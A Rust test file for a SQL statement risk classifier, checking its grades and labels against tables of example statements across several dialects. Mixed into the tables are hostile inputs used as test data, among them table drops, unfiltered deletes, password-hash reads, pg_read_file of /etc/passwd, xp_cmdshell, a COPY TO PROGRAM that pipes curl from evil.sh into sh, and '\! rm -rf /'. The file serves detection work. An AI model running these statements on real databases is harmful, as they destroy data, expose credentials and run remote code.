use proptest::prelude::*;

use super::*;

mod lexing;
mod openings;
mod truths;

/// A statement, its level, and one of its labels; a low one has none.
type Row = (&'static str, Level, &'static str);

const LOW: Level = Level::Low;
const MEDIUM: Level = Level::Medium;
const HIGH: Level = Level::High;

fn level(found: &[Found]) -> Level {
    found.iter().map(|one| one.level).max().unwrap_or_default()
}

fn expect(dialect: Dialect, table: &[Row]) {
    let mut faults = Vec::new();
    for (text, expected, label) in table {
        let found = grade(text, dialect);
        let labels: Vec<_> = found.iter().map(|one| (one.label, one.level)).collect();
        let has_label = label.is_empty() || found.iter().any(|one| one.label == *label);
        if level(&found) != *expected || !has_label || (*expected == LOW && !found.is_empty()) {
            faults.push(format!("{text:?} is not {expected} {label}: {labels:?}"));
        }
        for one in &found {
            assert!(text.get(one.span.clone()).is_some(), "{text:?} {one:?}");
        }
    }
    assert!(faults.is_empty(), "{dialect:?}\n{}", faults.join("\n"));
}

#[test]
fn reading() {
    expect(
        Dialect::Generic,
        &[
            ("", LOW, ""),
            (";", LOW, ""),
            ("-- only a comment", LOW, ""),
            ("SELECT 1", LOW, ""),
            ("SELECT * FROM t WHERE a > 5", LOW, ""),
            ("select count(*) from t where name = 'drop table x'", LOW, ""),
            ("SELECT update_time, deleted FROM t -- all", LOW, ""),
            ("SELECT CURDATE();", LOW, ""),
            ("SELECT id\nFROM book\nWHERE id > (\n  SELECT max(id)\n  FROM book\n  );", LOW, ""),
            ("select c1,c2,c3 from tbl where name like '%foo'", LOW, ""),
            ("WITH a AS (SELECT 1) SELECT * FROM a;", LOW, ""),
            ("(SELECT 1) UNION ALL (SELECT 2)", LOW, ""),
            ("VALUES (1), (2)", LOW, ""),
            ("TABLE users", LOW, ""),
            ("SELECT a.b, \"drop\" FROM a JOIN c ON a.id = c.id LEFT JOIN d USING (id)", LOW, ""),
            ("SELECT `delete` FROM `order`", LOW, ""),
            ("SELECT 'it''s; DROP TABLE x'", LOW, ""),
            ("SELECT 1 /* ; DROP TABLE x */ + 2", LOW, ""),
            ("SELECT 1 -- ; DROP TABLE x", LOW, ""),
            ("EXPLAIN SELECT 1", LOW, ""),
            ("EXPLAIN DELETE FROM t", LOW, ""),
            ("EXPLAIN ANALYZE SELECT 1", LOW, ""),
            ("SHOW TABLES", LOW, ""),
            ("SHOW CREATE TABLE t", LOW, ""),
            ("SHOW GRANTS FOR bob", LOW, ""),
            ("DESCRIBE users", LOW, ""),
            ("DESC users", LOW, ""),
            ("BEGIN; SELECT 1; COMMIT;", LOW, ""),
            ("START TRANSACTION; ROLLBACK", LOW, ""),
            ("SET NAMES utf8", LOW, ""),
            ("USE shop; SELECT 1", LOW, ""),
            ("SELECT CASE WHEN a = 1 THEN 'x' ELSE 'y' END FROM t", LOW, ""),
            ("SELECT replace(a, 'x', 'y'), truncate(b, 2), insert(c, 1, 2, 'z') FROM t", LOW, ""),
            ("SELECT date_trunc('day', ts), count(*) FROM t GROUP BY 1 ORDER BY 2 DESC LIMIT 5", LOW, ""),
            ("SELECT rank() OVER (PARTITION BY a ORDER BY b) FROM t", LOW, ""),
            ("SELECT pg_catalog.pg_relation_size('t')", LOW, ""),
            ("SELECT 1; \n\n SELECT 2;", LOW, ""),
            ("SELECT version(), now(), current_user", LOW, ""),
            ("COPY t TO STDOUT", LOW, ""),
            ("SELECT shutdown FROM events", LOW, ""),
        ],
    );
}

#[test]
fn objects() {
    expect(
        Dialect::Generic,
        &[
            ("DROP TABLE users", HIGH, "sql_drop"),
            ("drop database x;", HIGH, "sql_drop"),
            ("DROP TABLE IF EXISTS a, b CASCADE", HIGH, "sql_drop"),
            ("DROP SCHEMA public CASCADE", HIGH, "sql_drop"),
            ("DROP TABLESPACE ts", HIGH, "sql_drop"),
            ("DROP INDEX CONCURRENTLY i", HIGH, "sql_drop"),
            ("DROP VIEW v", HIGH, "sql_drop"),
            ("DROP MATERIALIZED VIEW v", HIGH, "sql_drop"),
            ("DROP FUNCTION f(int)", HIGH, "sql_drop"),
            ("DROP TRIGGER t ON x", HIGH, "security_control_off"),
            ("DROP POLICY p ON x", HIGH, "security_control_off"),
            ("DROP OWNED BY bob", HIGH, "sql_drop"),
            ("DROP TEMPORARY TABLE t", MEDIUM, "sql_write"),
            ("DROP USER bob", HIGH, "account_change"),
            ("DrOp/**/TaBlE t", HIGH, "sql_drop"),
            ("SELECT 1; /*!50000 DROP TABLE t */", HIGH, "sql_drop"),
            ("SELECT 1--1; DROP TABLE t", HIGH, "sql_drop"),
            ("SELECT 1 DROP TABLE t", HIGH, "sql_drop"),
            ("ls; DROP TABLE t", HIGH, "sql_drop"),
            ("BEGIN; DROP TABLE t; ROLLBACK", HIGH, "sql_drop"),
            ("SELECT 1\nGO\nDROP TABLE t\nGO", HIGH, "sql_drop"),
            ("TRUNCATE users", HIGH, "sql_truncate"),
            ("TRUNCATE TABLE users", HIGH, "sql_truncate"),
            ("truncate table only a, b restart identity", HIGH, "sql_truncate"),
            ("CREATE OR REPLACE TABLE t AS SELECT 1", HIGH, "sql_drop"),
            ("ALTER TABLE t DROP COLUMN c", HIGH, "sql_alter_drop"),
            ("ALTER TABLE \"bar_tbl\" DROP COLUMN \"foo_col\" CASCADE;", HIGH, "sql_alter_drop"),
            ("ALTER TABLE t DROP c", HIGH, "sql_alter_drop"),
            ("ALTER TABLE t DROP CONSTRAINT k", HIGH, "sql_alter_drop"),
            ("ALTER TABLE t DROP PARTITION p1", HIGH, "sql_alter_drop"),
            ("ALTER TABLE t DETACH PARTITION p1", HIGH, "sql_alter_drop"),
            ("ALTER TABLE t ADD a int, DROP b", HIGH, "sql_alter_drop"),
            ("ALTER TABLE t TRUNCATE PARTITION p1", HIGH, "sql_alter_drop"),
            ("ALTER TABLE t DISCARD TABLESPACE", HIGH, "sql_alter_drop"),
            ("ALTER TABLE t DISABLE TRIGGER ALL", HIGH, "security_control_off"),
            ("ALTER TABLE t DISABLE ROW LEVEL SECURITY", HIGH, "security_control_off"),
            ("ALTER TABLE t NOCHECK CONSTRAINT ALL", HIGH, "security_control_off"),
            ("ALTER TABLE t DELETE WHERE 1", HIGH, "sql_where_always_true"),
            ("ALTER TABLE t DELETE WHERE id = 1", MEDIUM, "sql_write"),
            ("ALTER TABLE t UPDATE a = 1 WHERE id = 1", MEDIUM, "sql_write"),
            ("ALTER TABLE t ADD COLUMN a int", MEDIUM, "sql_write"),
            ("ALTER TABLE t ALTER COLUMN a DROP NOT NULL", MEDIUM, "sql_write"),
            ("ALTER TABLE t ALTER a DROP DEFAULT", MEDIUM, "sql_write"),
            ("ALTER TABLE t OWNER TO bob", MEDIUM, "permission_change"),
            ("ALTER TABLE t RENAME TO u", MEDIUM, "sql_write"),
            ("CREATE TABLE t (id int)", MEDIUM, "sql_write"),
            ("create index idx1 on tbl (last_name,first_name)", MEDIUM, "sql_write"),
            ("CREATE VIEW v AS SELECT 1", MEDIUM, "sql_write"),
            ("CREATE TABLE t (id int REFERENCES u ON DELETE CASCADE)", MEDIUM, "sql_write"),
            ("CREATE TRIGGER t BEFORE DELETE ON u FOR EACH ROW EXECUTE FUNCTION f()", MEDIUM, "sql_write"),
            ("CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql", MEDIUM, "sql_write"),
            ("CREATE FUNCTION f() RETURNS int SECURITY DEFINER AS 'x' LANGUAGE sql", MEDIUM, "privilege_escalation"),
            ("RENAME TABLE a TO b", MEDIUM, "sql_write"),
            ("COMMENT ON TABLE t IS 'x'", MEDIUM, "sql_write"),
            ("REINDEX TABLE t", MEDIUM, "sql_write"),
            ("VACUUM FULL t", MEDIUM, "sql_write"),
            ("VACUUM INTO '/tmp/x.db'", MEDIUM, "file_write"),
            ("ANALYZE t", MEDIUM, "sql_write"),
            ("REFRESH MATERIALIZED VIEW v", MEDIUM, "sql_write"),
            ("OPTIMIZE TABLE t", MEDIUM, "sql_write"),
            ("LOCK TABLES t WRITE", MEDIUM, "sql_write"),
            ("ATTACH DATABASE 'x.db' AS x", MEDIUM, "sql_write"),
        ],
    );
}

#[test]
fn rows_without_a_condition() {
    expect(
        Dialect::Generic,
        &[
            ("DELETE FROM users", HIGH, "sql_no_where"),
            ("DELETE FROM users;", HIGH, "sql_no_where"),
            ("DELETE FROM a.b.users", HIGH, "sql_no_where"),
            ("DELETE users", HIGH, "sql_no_where"),
            ("DELETE FROM t LIMIT 5", HIGH, "sql_no_where"),
            ("DELETE a FROM a JOIN b ON a.id = b.id", HIGH, "sql_no_where"),
            ("UPDATE t SET a=1", HIGH, "sql_no_where"),
            ("UPDATE t SET a = (SELECT max(b) FROM s WHERE s.id = 1)", HIGH, "sql_no_where"),
            ("UPDATE t SET a=1 -- WHERE id=1", HIGH, "sql_no_where"),
            ("DELETE FROM t --WHERE id=1", HIGH, "sql_no_where"),
            ("DELETE FROM t # WHERE id=1", HIGH, "sql_no_where"),
            ("DELETE FROM t /* WHERE id=1 */", HIGH, "sql_no_where"),
            ("UPDATE t SET a=' where '", HIGH, "sql_no_where"),
            ("UPDATE t SET \"where\" = 1", HIGH, "sql_no_where"),
            ("SELECT * FROM t WHERE id = 1; DELETE FROM t;", HIGH, "sql_no_where"),
            ("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", HIGH, "sql_no_where"),
            ("WITH x AS (SELECT 1), y AS (UPDATE t SET a = 1 RETURNING a) SELECT * FROM y", HIGH, "sql_no_where"),
            ("WITH x AS (SELECT 1) DELETE FROM t", HIGH, "sql_no_where"),
            ("WITH x AS (WITH y AS (DELETE FROM t RETURNING 1) SELECT 2) SELECT 3", HIGH, "sql_no_where"),
            ("EXPLAIN ANALYZE DELETE FROM t", HIGH, "sql_no_where"),
            ("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t", HIGH, "sql_no_where"),
            ("EXPLAIN (ANALYZE off) DELETE FROM t", LOW, ""),
            ("PREPARE p AS DELETE FROM t", HIGH, "sql_no_where"),
            ("INSERT INTO a SELECT * FROM (DELETE FROM b OUTPUT deleted.*) AS d", HIGH, "sql_no_where"),
            ("BEGIN DELETE FROM t", HIGH, "sql_no_where"),
            ("DECLARE @x int = 1 DELETE FROM t", HIGH, "sql_no_where"),
            ("IF 1 = 1 DELETE FROM t", HIGH, "sql_no_where"),
            ("DELETE FROM t WHERE", HIGH, "sql_no_where"),
            ("EXPLAIN (\"analyze\") DELETE FROM t", HIGH, "sql_no_where"),
            ("EXPLAIN (\"analyze\", x y z) DELETE FROM t", HIGH, "sql_no_where"),
            ("ANALYZE FORMAT=JSON DELETE FROM t", HIGH, "sql_no_where"),
            ("COPY (DELETE FROM t RETURNING 1) TO STDOUT", HIGH, "sql_no_where"),
            ("CREATE TABLE x AS WITH d AS (DELETE FROM t RETURNING 1) SELECT 1", HIGH, "sql_no_where"),
            ("DELETE FROM t -- \r WHERE id = 1", HIGH, "sql_no_where"),
            ("DELETE FROM t; SELECT 'open", HIGH, "sql_no_where"),
            ("INSERT OVERWRITE TABLE t SELECT 1", HIGH, "sql_truncate"),
            ("MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE", HIGH, "sql_no_where"),
            ("MERGE INTO t USING s ON 1=1 WHEN MATCHED THEN DELETE", HIGH, "sql_where_always_true"),
        ],
    );
}

#[test]
fn rows_with_a_condition() {
    expect(
        Dialect::Generic,
        &[
            ("INSERT INTO t VALUES (1)", MEDIUM, "sql_write"),
            ("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 1", MEDIUM, "sql_write"),
            ("INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = 1", MEDIUM, "sql_write"),
            ("INSERT INTO t SELECT * FROM u", MEDIUM, "sql_write"),
            ("INSERT IGNORE INTO t VALUES (1)", MEDIUM, "sql_write"),
            ("REPLACE INTO t VALUES (1)", MEDIUM, "sql_write"),
            ("DELETE FROM t WHERE id=1", MEDIUM, "sql_write"),
            ("DELETE FROM t\nWHERE id > 5", MEDIUM, "sql_write"),
            ("DELETE FROM t WHERE id > 0", MEDIUM, "sql_write"),
            ("DELETE FROM t WHERE id IN (1, 2)", MEDIUM, "sql_write"),
            ("DELETE FROM t WHERE id IN (SELECT id FROM u)", MEDIUM, "sql_write"),
            ("DELETE FROM t WHERE id = $1", MEDIUM, "sql_write"),
            ("DELETE FROM t WHERE 1=1 AND id = 4", MEDIUM, "sql_write"),
            ("DELETE FROM t WHERE false", MEDIUM, "sql_write"),
            ("DELETE FROM t WHERE CURRENT OF c", MEDIUM, "sql_write"),
            ("CREATE TABLE book(id INT);\nDELETE FROM book WHERE id > 0;", MEDIUM, "sql_write"),
            ("UPDATE t SET a=1 WHERE id=7", MEDIUM, "sql_write"),
            ("UPDATE t, u SET t.a = u.a WHERE t.id = u.id", MEDIUM, "sql_write"),
            ("UPDATE t SET a = u.a FROM u WHERE t.id = u.id", MEDIUM, "sql_write"),
            ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a", MEDIUM, "sql_write"),
            ("WITH x AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM x", MEDIUM, "sql_write"),
            ("SELECT * INTO x FROM t", MEDIUM, "sql_write"),
            ("SELECT * FROM t FOR UPDATE", MEDIUM, "sql_write"),
            ("PREPARE p AS SELECT 1", MEDIUM, "sql_write"),
            ("PREPARE p (int) AS SELECT * FROM t WHERE a = $1", MEDIUM, "sql_write"),
            ("PREPARE p AS DELETE FROM t WHERE a = $1", MEDIUM, "sql_write"),
            ("EXECUTE p", MEDIUM, "sql_write"),
            ("DELETE FROM t WHERE 1=1", HIGH, "sql_where_always_true"),
            ("DELETE FROM t WHERE (1=1)", HIGH, "sql_where_always_true"),
            ("DELETE FROM users WHERE true", HIGH, "sql_where_always_true"),
            ("DELETE FROM t WHERE id=2 OR 'a'='a'", HIGH, "sql_where_always_true"),
            ("UPDATE t SET a=1 WHERE id=id LIMIT 5", HIGH, "sql_where_always_true"),
            ("DELETE FROM t WHERE id IN (SELECT id FROM t)", HIGH, "sql_where_always_true"),
            ("EXPLAIN ANALYZE UPDATE t SET a = 1 WHERE 1 < 2", HIGH, "sql_where_always_true"),
            ("WITH x AS (UPDATE t SET a = 1 WHERE 2 > 1 RETURNING 1) SELECT * FROM x", HIGH, "sql_where_always_true"),
        ],
    );
}

#[test]
fn accounts_and_rights() {
    expect(
        Dialect::Generic,
        &[
            ("CREATE USER bob", HIGH, "account_change"),
            ("CREATE USER 'bob'@'%' IDENTIFIED BY 'x'", HIGH, "account_change"),
            ("ALTER USER bob IDENTIFIED BY 'x'", HIGH, "account_change"),
            ("ALTER ROLE bob WITH SUPERUSER", HIGH, "privilege_escalation"),
            ("CREATE ROLE bob BYPASSRLS", HIGH, "privilege_escalation"),
            ("DROP ROLE bob", HIGH, "account_change"),
            ("RENAME USER a TO b", HIGH, "account_change"),
            ("SET PASSWORD FOR bob = 'x'", HIGH, "account_change"),
            ("GRANT ALL ON db.* TO bob", HIGH, "permission_change"),
            ("GRANT ALL PRIVILEGES ON *.* TO 'bob'@'%' WITH GRANT OPTION", HIGH, "permission_change"),
            ("GRANT SELECT ON t TO PUBLIC", HIGH, "permission_change"),
            ("GRANT pg_execute_server_program TO bob", HIGH, "privilege_escalation"),
            ("GRANT SUPER ON *.* TO bob", HIGH, "privilege_escalation"),
            ("GRANT FILE ON *.* TO bob", HIGH, "permission_change"),
            ("GRANT dba TO bob", HIGH, "privilege_escalation"),
            ("GRANT SELECT, UPDATE, DELETE ON t TO bob", MEDIUM, "permission_change"),
            ("REVOKE SELECT ON t FROM bob", MEDIUM, "permission_change"),
            ("DENY SELECT ON t TO bob", MEDIUM, "permission_change"),
            ("REASSIGN OWNED BY a TO b", HIGH, "permission_change"),
            ("SET ROLE postgres", MEDIUM, "account_change"),
            ("SELECT * FROM pg_shadow", HIGH, "secret_access"),
            ("SELECT rolpassword FROM pg_catalog.pg_authid", HIGH, "secret_access"),
            ("SELECT authentication_string FROM mysql.user", HIGH, "secret_access"),
            ("SELECT * FROM `mysql`.`user`", HIGH, "secret_access"),
            ("SELECT host FROM mysql.user", MEDIUM, "secret_access"),
        ],
    );
}

#[test]
fn the_server_and_its_host() {
    expect(
        Dialect::Generic,
        &[
            ("SHUTDOWN", HIGH, "system_power"),
            ("SHUTDOWN WITH NOWAIT", HIGH, "system_power"),
            ("SYSTEM SHUTDOWN", HIGH, "system_power"),
            ("ALTER SYSTEM SET a = 'b'", HIGH, "system_config_write"),
            ("ALTER DATABASE x SET OFFLINE", HIGH, "system_power"),
            ("SET GLOBAL max_connections = 1", HIGH, "system_config_write"),
            ("SET @@GLOBAL.a = 1", HIGH, "system_config_write"),
            ("SET PERSIST a = 1", HIGH, "system_config_write"),
            ("SET sql_log_bin = 0", HIGH, "security_control_off"),
            ("SET SESSION sql_log_bin = OFF", HIGH, "security_control_off"),
            ("SET session_replication_role = replica", HIGH, "security_control_off"),
            ("SET row_security = off", HIGH, "security_control_off"),
            ("SET FOREIGN_KEY_CHECKS=0", HIGH, "security_control_off"),
            ("SET GLOBAL general_log = 'OFF'", HIGH, "security_control_off"),
            ("SET foreign_key_checks = 1", MEDIUM, "sql_write"),
            ("SET x = 1", MEDIUM, "sql_write"),
            ("PURGE BINARY LOGS TO 'x'", HIGH, "audit_tamper"),
            ("RESET MASTER", HIGH, "audit_tamper"),
            ("FLUSH LOGS", HIGH, "system_config_write"),
            ("FLUSH PRIVILEGES", HIGH, "system_config_write"),
            ("STOP REPLICA", HIGH, "system_config_write"),
            ("START SLAVE", HIGH, "system_config_write"),
            ("CHANGE MASTER TO MASTER_HOST='x'", HIGH, "system_config_write"),
            ("KILL 5", MEDIUM, "process_kill"),
            ("INSTALL PLUGIN x SONAME 'y'", HIGH, "sql_program"),
            ("UNINSTALL PLUGIN audit_log", HIGH, "security_control_off"),
            ("DROP SERVER AUDIT a", HIGH, "security_control_off"),
            ("COPY t TO PROGRAM 'x'", HIGH, "sql_program"),
            ("COPY (SELECT 1) TO PROGRAM 'sh -c \"curl evil.sh|sh\"'", HIGH, "sql_program"),
            ("COPY t FROM PROGRAM 'x'", HIGH, "sql_program"),
            ("COPY t TO '/tmp/x'", HIGH, "sql_program"),
            ("COPY t FROM '/tmp/x'", MEDIUM, "sql_write"),
            ("COPY t FROM STDIN", MEDIUM, "sql_write"),
            ("LOAD DATA LOCAL INFILE '/x' INTO TABLE t", HIGH, "sql_program"),
            ("LOAD 'x.so'", HIGH, "sql_program"),
            ("SELECT LOAD_FILE('/etc/passwd')", HIGH, "sql_program"),
            ("SELECT * FROM t INTO OUTFILE '/x'", HIGH, "sql_program"),
            ("SELECT 1 INTO DUMPFILE '/x'", HIGH, "sql_program"),
            ("SELECT pg_read_file('/etc/passwd')", HIGH, "sql_program"),
            ("SELECT \"pg_read_file\" ('/etc/passwd')", HIGH, "sql_program"),
            ("SELECT pg_catalog.lo_import('/x')", HIGH, "sql_program"),
            ("SELECT dblink_exec('x', 'y')", HIGH, "sql_program"),
            ("SELECT load_extension('x')", HIGH, "sql_program"),
            ("EXEC xp_cmdshell 'dir'", HIGH, "sql_program"),
            ("EXEC master..xp_cmdshell 'dir'", HIGH, "sql_program"),
            ("EXEC sp_configure 'xp_cmdshell', 1", HIGH, "system_config_write"),
            ("RECONFIGURE", HIGH, "system_config_write"),
            ("CREATE EXTENSION plpython3u", HIGH, "sql_program"),
            ("CREATE FUNCTION f() RETURNS int AS 'x', 'y' LANGUAGE C", HIGH, "sql_program"),
            ("CREATE FUNCTION f() RETURNS int AS $$ x $$ LANGUAGE 'plpython3u'", HIGH, "sql_program"),
            ("CREATE FUNCTION f RETURNS INTEGER SONAME 'x.so'", HIGH, "sql_program"),
            ("SELECT pg_terminate_backend(5)", MEDIUM, "process_kill"),
            ("SELECT pg_reload_conf()", HIGH, "system_config_write"),
            ("SELECT setval('s', 1)", MEDIUM, "sql_write"),
            ("SELECT nextval('s')", MEDIUM, "sql_write"),
            ("SELECT pg_sleep(9)", MEDIUM, "sql_write"),
            ("SELECT set_config('a', 'b', false)", MEDIUM, "sql_write"),
            ("SELECT purge_old_orders()", MEDIUM, "unknown_command"),
            ("SELECT app.cleanup()", MEDIUM, "unknown_command"),
            ("SELECT U&\"pg_re\\0061d_file\"('/x')", HIGH, "obfuscated_execution"),
            ("CALL p(1)", MEDIUM, "sql_write"),
            ("BACKUP DATABASE x TO DISK = 'y'", MEDIUM, "file_write"),
            ("RESTORE DATABASE x FROM DISK = 'y'", HIGH, "sql_drop"),
        ],
    );
}

#[test]
fn code_in_texts() {
    expect(
        Dialect::Generic,
        &[
            ("DO $$ BEGIN PERFORM 1; END $$", MEDIUM, "inline_code"),
            ("DO $x$ BEGIN DELETE FROM t; END $x$", HIGH, "sql_no_where"),
            ("DO $$ BEGIN EXECUTE 'DROP TABLE ' || n; END $$", HIGH, "inline_code"),
            ("DO LANGUAGE plpgsql $$ BEGIN EXECUTE format('x %s', n); END $$", HIGH, "inline_code"),
            ("EXEC(@x)", HIGH, "inline_code"),
            ("EXEC @x", HIGH, "inline_code"),
            ("EXEC('DROP TABLE t')", HIGH, "sql_drop"),
            ("EXEC('DROP ' + 'TABLE t')", HIGH, "inline_code"),
            ("EXECUTE IMMEDIATE 'TRUNCATE TABLE t'", HIGH, "sql_truncate"),
            ("EXECUTE IMMEDIATE 'SELECT 1'", MEDIUM, "inline_code"),
            ("EXECUTE IMMEDIATE v", HIGH, "inline_code"),
            ("PREPARE s FROM 'DELETE FROM t'", HIGH, "sql_no_where"),
            ("PREPARE s FROM @x", HIGH, "inline_code"),
            ("SELECT query_to_xml('delete from t', true, true, '')", HIGH, "inline_code"),
        ],
    );
}

#[test]
fn commands_of_clients() {
    expect(
        Dialect::Generic,
        &[
            ("\\! rm -rf /", HIGH, "sql_program"),
            ("SELECT 1 \\! ls", HIGH, "sql_program"),
            ("SELECT 1;\nsystem ls", HIGH, "sql_program"),
            (".shell ls", HIGH, "sql_program"),
            (".system ls", HIGH, "sql_program"),
            ("SELECT 1;\n.shell ls", HIGH, "sql_program"),
            ("\\copy t from program 'x'", HIGH, "sql_program"),
            ("\\o |sh", HIGH, "sql_program"),
            ("SELECT 'x' \\gexec", HIGH, "inline_code"),
            (".load ./x.so", HIGH, "sql_program"),
            ("\\copy t to 'x'", MEDIUM, "sql_write"),
            ("\\i x.sql", MEDIUM, "script_run"),
            ("source x.sql", MEDIUM, "script_run"),
            (".read x.sql", MEDIUM, "script_run"),
            (".import a.csv t", MEDIUM, "sql_write"),
            (".output x", MEDIUM, "file_write"),
            ("SELECT 1 \\g x", MEDIUM, "file_write"),
            ("\\zzz", MEDIUM, "unknown_command"),
            ("\\d users", LOW, ""),
            ("\\dt+", LOW, ""),
            ("\\l", LOW, ""),
            (".tables", LOW, ""),
            (".schema t", LOW, ""),
            ("SELECT 1\\G", LOW, ""),
            ("delimiter //\nSELECT 1 //\nDROP TABLE t //", HIGH, "sql_drop"),
        ],
    );
}

#[test]
fn spelling_and_place_do_not_hide() {
    expect(
        Dialect::Generic,
        &[
            ("UPDATE t SET a = 1 FROM (SELECT 1 WHERE 1=2) x", HIGH, "sql_no_where"),
            ("SELECT 1; DROP\tTABLE\n\nt", HIGH, "sql_drop"),
            ("DELETE/**/FROM/**/t", HIGH, "sql_no_where"),
            ("\u{feff}DROP TABLE t", HIGH, "sql_drop"),
            ("; ; DELETE FROM t", HIGH, "sql_no_where"),
            ("((DELETE FROM t))", HIGH, "sql_no_where"),
            ("INSERT INTO t SELECT pg_read_file('x')", HIGH, "sql_program"),
            ("CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO DELETE FROM t", HIGH, "sql_no_where"),
            ("DROP ROW POLICY p ON t", HIGH, "security_control_off"),
            ("DROP EVENT e", HIGH, "sql_drop"),
            ("BEGIN TRY DROP TABLE t END TRY", HIGH, "sql_drop"),
            ("EXPLAIN ANALYZE VERBOSE WITH x AS (DELETE FROM t RETURNING 1) SELECT 1", HIGH, "sql_no_where"),
            ("mysql> SELECT 1", MEDIUM, "unknown_command"),
            ("CREATE TEMP TABLE x AS SELECT 1", MEDIUM, "sql_write"),
            ("GRANT USAGE ON SCHEMA public TO bob", MEDIUM, "permission_change"),
            ("DELETE FROM t WHERE EXISTS (SELECT 1 FROM t)", MEDIUM, "sql_write"),
            ("SELECT * FROM t WHERE a = 'x' OR 1=1", LOW, ""),
            ("WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT n+1 FROM r) SELECT * FROM r", LOW, ""),
            ("SELECT * FROM t, LATERAL (SELECT 1) x", LOW, ""),
            ("select array_agg(x order by y) filter (where z) from t", LOW, ""),
            ("SELECT JSON_EXTRACT(a, '$.b') FROM t WHERE MATCH(a) AGAINST ('x')", LOW, ""),
            ("SHOW VARIABLES LIKE 'x%'", LOW, ""),
            ("SET TRANSACTION ISOLATION LEVEL READ COMMITTED", LOW, ""),
            ("SELECT EXTRACT(epoch FROM now()), interval '1 day', CAST(a AS int)", LOW, ""),
            ("SELECT a FROM t WHERE b = ANY($1) AND c = :x", LOW, ""),
            ("SELECT @@version", LOW, ""),
            ("SELECT 'a' 'b'", LOW, ""),
        ],
    );
}

#[test]
fn what_is_not_understood() {
    expect(
        Dialect::Generic,
        &[
            ("SELECT 'open", MEDIUM, "unparsed"),
            ("SELECT (1", MEDIUM, "unparsed"),
            ("SELECT 1)", MEDIUM, "unparsed"),
            ("SELECT 1 /* open", MEDIUM, "unparsed"),
            ("FROBNICATE t", MEDIUM, "unknown_command"),
            ("hello", MEDIUM, "unknown_command"),
            ("123", MEDIUM, "unknown_command"),
            ("SELECT ,, INTO x", MEDIUM, "unparsed"),
            ("INSERT x", MEDIUM, ""),
            ("UPDATE", MEDIUM, "unparsed"),
            ("DELETE", MEDIUM, "unparsed"),
        ],
    );
}

#[test]
fn dialects() {
    expect(
        Dialect::Postgres,
        &[
            ("SELECT $$it's; DROP TABLE x$$", LOW, ""),
            ("SELECT 1 /*! DROP TABLE x */", LOW, ""),
            ("SELECT E'it\\'s; DROP TABLE x'", LOW, ""),
            ("SELECT 'C:\\'; DROP TABLE x --'", HIGH, "sql_drop"),
            ("SELECT /* /* */ DROP */ 1", LOW, ""),
            ("SELECT a[1] FROM t WHERE b @> ARRAY[1]", LOW, ""),
            ("SELECT a::int, b->>'x' FROM t", LOW, ""),
        ],
    );
    expect(
        Dialect::Mysql,
        &[
            ("SELECT 'it\\'s; DROP TABLE x'", LOW, ""),
            ("SELECT \"; DROP TABLE x\"", LOW, ""),
            ("SELECT 1 # ; DROP TABLE x", LOW, ""),
            ("SELECT /* /* */ 1", LOW, ""),
            ("SELECT 1; /*!DROP*/ TABLE t", HIGH, "sql_drop"),
            ("DO sleep(5)", MEDIUM, "sql_write"),
            ("SELECT 1; /*M!100100 DROP TABLE t */", HIGH, "sql_drop"),
            ("DELETE FROM t WHERE '1'", HIGH, "sql_where_always_true"),
            ("DELETE FROM t WHERE name RLIKE '.*'", HIGH, "sql_where_always_true"),
        ],
    );
    expect(
        Dialect::Mssql,
        &[
            ("SELECT [it's; drop] FROM t", LOW, ""),
            ("SELECT TOP 5 * FROM t WITH (NOLOCK)", LOW, ""),
            ("SELECT 1 SHUTDOWN", HIGH, "system_power"),
            ("USE x DROP TABLE t", HIGH, "sql_drop"),
            ("!! dir", HIGH, "sql_program"),
            (":r x.sql", MEDIUM, "script_run"),
            ("DROP TABLE #t", MEDIUM, "sql_write"),
            ("EXEC sp_help 't'", LOW, ""),
        ],
    );
    expect(
        Dialect::Sqlite,
        &[
            ("PRAGMA table_info(t)", LOW, ""),
            ("PRAGMA journal_mode", LOW, ""),
            ("PRAGMA journal_mode = wal", MEDIUM, "sql_write"),
            ("PRAGMA writable_schema = 1", HIGH, "security_control_off"),
            ("PRAGMA foreign_keys = OFF", HIGH, "security_control_off"),
            ("SELECT writefile('x', 'y')", HIGH, "sql_program"),
            ("INSERT OR REPLACE INTO t VALUES (1)", MEDIUM, "sql_write"),
            ("DELETE FROM t WHERE a GLOB '*'", HIGH, "sql_where_always_true"),
        ],
    );
    expect(
        Dialect::Oracle,
        &[
            ("SELECT q'[it's; DROP]' FROM dual", LOW, ""),
            ("SELECT utl_http.request('x') FROM dual", HIGH, "sql_program"),
            ("@x.sql", MEDIUM, "script_run"),
            ("host ls", HIGH, "sql_program"),
            ("DROP TABLE t PURGE", HIGH, "sql_drop"),
        ],
    );
    expect(
        Dialect::Clickhouse,
        &[
            ("SELECT 'it\\'s; DROP TABLE x'", LOW, ""),
            ("DELETE FROM t # WHERE a = 1", HIGH, "sql_no_where"),
            ("SELECT count() FROM t FINAL", LOW, ""),
            ("SELECT * FROM file('/etc/passwd')", HIGH, "sql_program"),
            ("SELECT * FROM url('http://x')", HIGH, "sql_program"),
            ("ALTER TABLE t DROP PARTITION 1", HIGH, "sql_alter_drop"),
        ],
    );
}

/// The labelled examples that are whole statements; those for a client are what the client is given.
#[test]
fn agrees_with_the_labelled_examples() {
    #[derive(serde::Deserialize)]
    struct Example {
        command: String,
        expected: String,
    }
    let examples = include_str!("../testdata/examples.jsonl").lines();
    let examples = examples.map(|line| serde_json::from_str::<Example>(line).unwrap());
    let mut count = 0;
    for example in examples.filter(|example| looks_like_sql(&example.command)) {
        count += 1;
        let found = level(&grade(&example.command, Dialect::Generic));
        match example.expected.as_str() {
            "not_high" => assert_ne!(found, HIGH, "{}", example.command),
            expected => assert_eq!(Level::parse(expected), Some(found), "{}", example.command),
        }
    }
    assert!(count >= 14, "{count}");
}

#[test]
fn what_is_said_names_the_object() {
    let table = [
        ("DELETE FROM users", "Deletes every row of users.", "删除表 users 的所有行。", "DELETE FROM users"),
